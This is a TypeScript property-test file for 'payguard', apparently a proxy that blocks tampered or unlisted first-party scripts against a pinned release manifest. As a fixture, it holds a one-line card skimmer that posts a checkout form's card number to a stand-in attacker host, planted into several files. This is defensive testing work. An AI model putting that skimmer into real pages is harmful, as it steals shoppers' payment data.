/**
 * The release manifest enforced by the proxy (issue 17, class 3), with real HTTP: payguard in front
 * of a real static file server (first-party-world.ts) serving a build that `payguard pin` pinned,
 * which an intruder then changed: a tampered vendor file, a tampered JSON asset manifest, a skimmed
 * copy of the checkout bundle under a new hashed name (the storefront incident of the issue), a
 * skimmer outside the build directory. Which file each spelling of a path reaches is decided by the
 * static server, never by the test: the properties compare what payguard serves with what the
 * server would serve for the same bytes on the wire.
 */
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { withSlashDotQueryFragment } from '../helpers/path-spellings.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pinDirectory } from '../../src/cli/commands/pin.js';
import type { Policy } from '../../src/policy/model.js';
import { parsePolicyText } from '../../src/policy/parse.js';
import { verifyDocument } from '../../src/verify/index.js';
import { builtFile, getExact, policyWithManifest, startBuildServer, type BuildServer } from './first-party-world.js';
import { startHarness, type Harness } from './support.js';

const SITE = 'https://shop.example';
const ROUTES = `  - { path: /checkout/**, mode: block }
  - { path: /rewrite/**, mode: rewrite, codeRemoval: serve }
  - { path: /**, mode: report }`;
const GENERATED = [{ path: '/api/settings.js', why: 'per-session settings the shop renders into a script' }];

/** The shop's build as released (pinned), and what an intruder changes afterwards. */
const RELEASE: Readonly<Record<string, string>> = {
  '/static/app.3f9a1c.js': 'window.__ran = (window.__ran || []).concat("app");\n',
  '/static/checkout.5b0e21.js': 'import "./app.3f9a1c.js?lang=en";\nwindow.__ran = (window.__ran || []).concat("checkout");\n',
  '/static/vendor.js': 'window.vendor = { version: 3 };\n',
  '/static/asset-manifest.json': '{"checkout.js":"/static/checkout.5b0e21.js"}',
  '/static/bundle.9e8f00.js': `/* a 1.2 MB bundle */\n${'var x=1;'.repeat(150_000)}\n`,
  // Sub-delimiters in a name: a browser sends them raw, a client may encode them; a static server reads both alike.
  "/static/vendor(legacy)+1,2.js": 'window.legacy = true;\n',
};
const SKIM = 'new Image().src = "https://evil.example/c?" + document.querySelector("#card").value;\n';
const INTRUSION: Readonly<Record<string, string>> = {
  '/static/vendor.js': `window.vendor = { version: 3 };\n${SKIM}`,
  '/static/asset-manifest.json': '{"checkout.js":"/static/checkout.7c1d2e.js"}',
  // The storefront incident: a skimmed copy of the checkout bundle under a new hashed name.
  '/static/checkout.7c1d2e.js': RELEASE['/static/checkout.5b0e21.js']! + SKIM,
  '/static/chunks/skim.mjs': SKIM,
  '/uploads/avatar.js': SKIM,
};
const LISTED = ['/static/app.3f9a1c.js', '/static/checkout.5b0e21.js', '/static/bundle.9e8f00.js', '/static/vendor(legacy)+1,2.js'] as const;
const BAD = Object.keys(INTRUSION);

/** What Chromium sends as Sec-Fetch-Dest for the ways a file can be fetched, and none (old browsers, curl). */
const CODE_DESTS = ['script', 'json', 'worker', 'sharedworker', 'serviceworker', 'audioworklet', 'paintworklet'] as const;
const OTHER_DESTS = ['empty', 'document', 'image', 'style', 'iframe', undefined] as const;
const ANY_DEST = fc.constantFrom<string | undefined>(...CODE_DESTS, ...OTHER_DESTS);

/**
 * Spellings of a path a client may send (docs/vectors.md H-14): a query, a fragment, case flips,
 * percent-encoded characters (unreserved or not), `;params`, doubled slashes, dot segments (plain,
 * percent-encoded, or with an encoded slash). Some reach the same file on the static server, some
 * reach nothing; the properties ask the server which.
 */
const SPELLING = fc.record({
  caseFlips: fc.array(fc.nat(), { maxLength: 3 }),
  encode: fc.array(fc.nat(), { maxLength: 3 }),
  param: fc.option(fc.constantFrom(';v=3', ';jsessionid=abc', ';'), { nil: undefined }),
  doubleSlash: fc.option(fc.nat(), { nil: undefined }),
  dotSegment: fc.option(fc.constantFrom('/./', '/x/../', '/%2e/', '/x/%2E%2E/', '/x/..%2F', '/static/../'), { nil: undefined }),
  query: fc.option(fc.constantFrom('v=3', 'lang=en', '', 'x=%2F..%2F', 'callback=a.b'), { nil: undefined }),
  fragment: fc.option(fc.constantFrom('', 'top'), { nil: undefined }),
});

function spell(path: string, s: typeof SPELLING extends fc.Arbitrary<infer T> ? T : never): string {
  const chars = [...path.slice(1)];
  for (const flip of s.caseFlips) {
    const i = flip % chars.length;
    chars[i] = chars[i] === chars[i]!.toUpperCase() ? chars[i]!.toLowerCase() : chars[i]!.toUpperCase();
  }
  for (const e of s.encode) {
    const i = e % chars.length;
    if (chars[i] !== '/' && !chars[i]!.startsWith('%')) chars[i] = `%${chars[i]!.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return withSlashDotQueryFragment('/' + chars.join('') + (s.param ?? ''), s);
}

function spelt(paths: readonly string[]): fc.Arbitrary<{ path: string; target: string }> {
  return fc.tuple(fc.constantFrom(...paths), SPELLING).map(([path, s]) => ({ path, target: spell(path, s) }));
}

interface World {
  readonly build: BuildServer;
  readonly harness: Harness;
  /** The bytes of each file as released. */
  readonly released: ReadonlyMap<string, Buffer>;
  /** The policy payguard runs under, parsed (what `payguard scan` would read). */
  readonly policy: Policy;
}

async function startWorld(caseInsensitive: boolean): Promise<World> {
  const build = await startBuildServer({ caseInsensitive });
  for (const [path, body] of Object.entries(RELEASE)) build.write(path, body);
  // `payguard pin` over the build as the release job runs it, before the intrusion.
  const { release } = await pinDirectory(`${build.root}/static`, '/static/');
  for (const [path, body] of Object.entries(INTRUSION)) build.write(path, body);
  let generation = 0;
  build.dynamic.set('/api/settings.js', (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/javascript' }).end(`window.settings = { session: ${++generation} };`);
  });
  const policyYaml = policyWithManifest(SITE, { ...release, generated: GENERATED }, ROUTES);
  const harness = await startHarness(undefined, { upstream: build.origin, policyYaml });
  const released = new Map(Object.entries(RELEASE).map(([p, b]) => [p, Buffer.from(b)]));
  return { build, harness, released, policy: parsePolicyText(policyYaml, 'policy.yaml') };
}

/** The sum of a counter over the series whose labels include `labels` (e.g. `how="hashed"`). */
async function metric(harness: Harness, name: string, labels: string): Promise<number> {
  const text = await (await fetch(`${harness.payguard.adminUrl}/metrics`)).text();
  return text
    .split('\n')
    .filter((l) => l.startsWith(`${name}{`) && l.slice(0, l.indexOf('}')).includes(labels))
    .reduce((sum, l) => sum + Number(l.split(' ').at(-1)), 0);
}

describe.each([
  ['a case-sensitive static server (Linux)', false],
  ['a case-folding static server (macOS, Windows)', true],
])('the release manifest in front of %s', (_name, caseInsensitive) => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld(caseInsensitive);
  });
  afterAll(async () => {
    await world?.harness.stop();
    await world?.build.close();
  });

  it('serves a listed file only as its released bytes, whatever the spelling, and every spelling that reaches it on the server is served', async () => {
    await fc.assert(
      fc.asyncProperty(spelt(LISTED), ANY_DEST, async ({ path, target }, dest) => {
        const response = await getExact(world.harness.payguard.publicUrl, target, dest);
        const released = world.released.get(path)!;
        if (response.status === 200) expect(response.body.equals(released), `${target} (${dest}) served other bytes`).toBe(true);
        // A spelling the server answers with this file is a spelling a page may use: it must work.
        if (world.build.resolve(target) === world.build.resolve(path)) expect(response.status, `${target} (${dest})`).toBe(200);
      }),
      { numRuns: 250 },
    );
  });

  it('never serves a tampered or unlisted file unverified when it is requested as code or lies under the base, however spelt', async () => {
    let refusedAsCode = 0;
    await fc.assert(
      fc.asyncProperty(spelt(BAD), ANY_DEST, async ({ target }, dest) => {
        const reached = world.build.resolve(target);
        const response = await getExact(world.harness.payguard.publicUrl, target, dest);
        if (reached === undefined) return;
        const bad = builtFile(world.build, reached.slice(world.build.root.length));
        const runsAsCode = dest !== undefined && (CODE_DESTS as readonly string[]).includes(dest);
        const underBase = reached.startsWith(`${world.build.root}/static/`);
        if (!runsAsCode && !underBase) return;
        expect(response.status === 200 && response.body.equals(bad), `${target} (${dest}) served the intruder's bytes`).toBe(false);
        expect(response.status, `${target} (${dest})`).toBe(502);
        if (runsAsCode) refusedAsCode++;
      }),
      { numRuns: 250 },
    );
    expect(refusedAsCode).toBeGreaterThan(0);
  });

  it("refuses a module's static import of a tampered file, as Chromium requests it (import './app.js?lang=en')", async () => {
    const ok = await getExact(world.harness.payguard.publicUrl, '/static/app.3f9a1c.js?lang=en', 'script');
    expect(ok.status).toBe(200);
    world.build.write('/static/app.3f9a1c.js', `${RELEASE['/static/app.3f9a1c.js']}${SKIM}`);
    try {
      const tampered = await getExact(world.harness.payguard.publicUrl, '/static/app.3f9a1c.js?lang=en', 'script');
      expect(tampered.status).toBe(502);
      expect(tampered.body.toString()).not.toContain('evil.example');
      expect(world.harness.logLines().some((l) => l['event'] === 'script-pin-mismatch' && l['path'] === '/static/app.3f9a1c.js')).toBe(true);
    } finally {
      world.build.write('/static/app.3f9a1c.js', RELEASE['/static/app.3f9a1c.js']!);
    }
  });

  it('refuses unlisted code without asking the storefront', async () => {
    const before = world.build.requests.length;
    const response = await getExact(world.harness.payguard.publicUrl, '/static/checkout.7c1d2e.js?v=2', 'script');
    expect(response.status).toBe(502);
    expect(world.build.requests.slice(before).some((r) => r.target.includes('7c1d2e'))).toBe(false);
    expect(await metric(world.harness, 'payguard_blocked_responses_total', 'reason="unlisted-first-party-script"')).toBeGreaterThan(0);
  });

  it('serves a generated script without a hash, and counts it under its path in the policy', async () => {
    const before = await metric(world.harness, 'payguard_first_party_generated_total', 'path="/api/settings.js"');
    const first = await getExact(world.harness.payguard.publicUrl, '/api/settings.js?session=a', 'script');
    const second = await getExact(world.harness.payguard.publicUrl, '/api/settings.js', 'script');
    expect([first.status, second.status]).toEqual([200, 200]);
    expect(first.body.equals(second.body)).toBe(false);
    expect(await metric(world.harness, 'payguard_first_party_generated_total', 'path="/api/settings.js"')).toBe(before + 2);
  });

  it('hashes identical bytes once: a 1.2 MB pinned bundle fetched 20 times is hashed once', async () => {
    const hashed = (): Promise<number> => metric(world.harness, 'payguard_pinned_script_checks_total', 'how="hashed"');
    const remembered = (): Promise<number> => metric(world.harness, 'payguard_pinned_script_checks_total', 'how="remembered"');
    const [hashedBefore, rememberedBefore] = [await hashed(), await remembered()];
    const bundle = world.released.get('/static/bundle.9e8f00.js')!;
    expect(bundle.length).toBeGreaterThan(1_200_000);
    for (let i = 0; i < 20; i++) {
      const response = await getExact(world.harness.payguard.publicUrl, `/static/bundle.9e8f00.js?v=${i}`, i % 2 === 0 ? 'script' : undefined);
      expect(response.status).toBe(200);
      expect(response.body.equals(bundle)).toBe(true);
    }
    // The bundle may have been hashed already by the spelling property above; never more than once.
    expect((await hashed()) - hashedBefore).toBeLessThanOrEqual(1);
    expect((await remembered()) - rememberedBefore).toBeGreaterThanOrEqual(19);
    // Bytes of the same length, one byte changed: a comparison of the bytes, not of a stand-in, decides.
    const tampered = Buffer.from(bundle);
    tampered[tampered.length - 2] = 0x20;
    world.build.write('/static/bundle.9e8f00.js', tampered);
    try {
      expect((await getExact(world.harness.payguard.publicUrl, '/static/bundle.9e8f00.js', 'script')).status).toBe(502);
    } finally {
      world.build.write('/static/bundle.9e8f00.js', bundle);
    }
    const hashedAfterRestore = await hashed();
    expect((await getExact(world.harness.payguard.publicUrl, '/static/bundle.9e8f00.js', 'script')).status).toBe(200);
    expect(await hashed()).toBe(hashedAfterRestore);
  });
});

describe('a page naming first-party code (the verifier, as `payguard scan` runs it, and the proxy agree)', () => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld(false);
  });
  afterAll(async () => {
    await world?.harness.stop();
    await world?.build.close();
  });

  const page = (script: string): string =>
    `<!doctype html><html><head><title>Checkout</title>${script}</head><body><form action="https://pay.gateway.example/pay" method="post"><input id="card" name="card"><button>Pay</button></form></body></html>`;
  /** Ways a page names a same-origin script: classic, module, preload, modulepreload, SVG, import map. */
  const NAMING = fc.constantFrom(
    (src: string) => `<script src="${src}"></script>`,
    (src: string) => `<script type="module" src="${src}"></script>`,
    (src: string) => `<link rel="modulepreload" href="${src}">`,
    (src: string) => `<link rel="preload" as="script" href="${src}">`,
    (src: string) => `<svg><script href="${src}"></script></svg>`,
  );
  const UNLISTED_SRC = fc.oneof(
    fc.constantFrom('/static/checkout.7c1d2e.js', '/uploads/avatar.js', '/static/chunks/skim.mjs', 'checkout.7c1d2e.js', '../static/checkout.7c1d2e.js?v=1'),
    fc.stringMatching(/^[a-z]{1,8}\.[0-9a-f]{6}\.m?js$/).map((name) => `/static/${name}`),
  );

  it('blocks (block route) and neutralises (rewrite route) a page naming a same-origin script the manifest does not list, and scan reports the same violation', async () => {
    const policy = world.policy;
    await fc.assert(
      fc.asyncProperty(UNLISTED_SRC, NAMING, fc.constantFrom('checkout', 'rewrite'), async (src, naming, area) => {
        const html = page(naming(src));
        const path = `/${area}/page-${createHash('sha1').update(html).digest('hex').slice(0, 8)}`;
        world.build.dynamic.set(path, (_req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html));
        const scanned = verifyDocument({ bytes: Buffer.from(html), url: `${SITE}${path}`, headers: [['content-type', 'text/html; charset=utf-8']], policy, mode: area === 'checkout' ? 'block' : 'rewrite' });
        expect(scanned.violations.map((v) => v.reason), html).toContain('unlisted-first-party-script');
        const served = await getExact(world.harness.payguard.publicUrl, path, 'document');
        if (area === 'checkout') {
          expect(served.status, html).toBe(502);
        } else {
          expect(served.status, html).toBe(200);
          const again = verifyDocument({ bytes: served.body, url: `${SITE}${path}`, headers: [['content-type', 'text/html; charset=utf-8']], policy, mode: 'rewrite' });
          expect(again.violations.filter((v) => v.reason === 'unlisted-first-party-script'), served.body.toString()).toEqual([]);
          expect(served.body.toString()).not.toContain(src);
        }
      }),
      { numRuns: 60 },
    );
  });

  it('blocks a page whose Link header preloads an unlisted same-origin script, as scan reports it', async () => {
    const html = page('');
    for (const [i, link] of ['</static/checkout.7c1d2e.js>; rel=preload; as=script', '<checkout.7c1d2e.js?v=1>; rel=modulepreload', '</uploads/avatar.js>; rel=modulepreload'].entries()) {
      const path = `/checkout/linked-${i}`;
      world.build.dynamic.set(path, (_req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', link: link }).end(html));
      const headers: [string, string][] = [['content-type', 'text/html; charset=utf-8'], ['link', link]];
      const scanned = verifyDocument({ bytes: Buffer.from(html), url: `${SITE}${path}`, headers, policy: world.policy, mode: 'block' });
      expect(scanned.violations.map((v) => v.reason), link).toContain('unlisted-first-party-script');
      expect((await getExact(world.harness.payguard.publicUrl, path, 'document')).status, link).toBe(502);
    }
  });

  it('serves a page naming listed scripts by any query, and a generated script, unchanged; its CSP lists the manifest paths, not the origin', async () => {
    const html = page(
      '<script type="module" src="/static/checkout.5b0e21.js?v=3"></script><script src="/static/vendor.js"></script><script src="/api/settings.js?s=1"></script><link rel="modulepreload" href="/static/app.3f9a1c.js?lang=en">',
    );
    world.build.dynamic.set('/checkout/clean', (_req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html));
    const served = await getExact(world.harness.payguard.publicUrl, '/checkout/clean', 'document');
    expect(served.status).toBe(200);
    // Unchanged but for what payguard adds to every protected page (the navigation guard, class 4).
    for (const tag of html.match(/<(?:script|link)[^>]*>/g)!) expect(served.body.toString()).toContain(tag);
    const csp = String(served.headers['content-security-policy']);
    const scriptSrc = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src '))!.split(' ');
    expect(scriptSrc).toEqual(expect.arrayContaining(['https://shop.example/static/app.3f9a1c.js', 'https://shop.example/static/checkout.5b0e21.js', 'https://shop.example/api/settings.js']));
    expect(scriptSrc).not.toContain('https://shop.example');
    expect(scriptSrc).not.toContain("'self'");
    expect(scriptSrc.some((s) => s.includes('asset-manifest.json'))).toBe(false);
  });
});
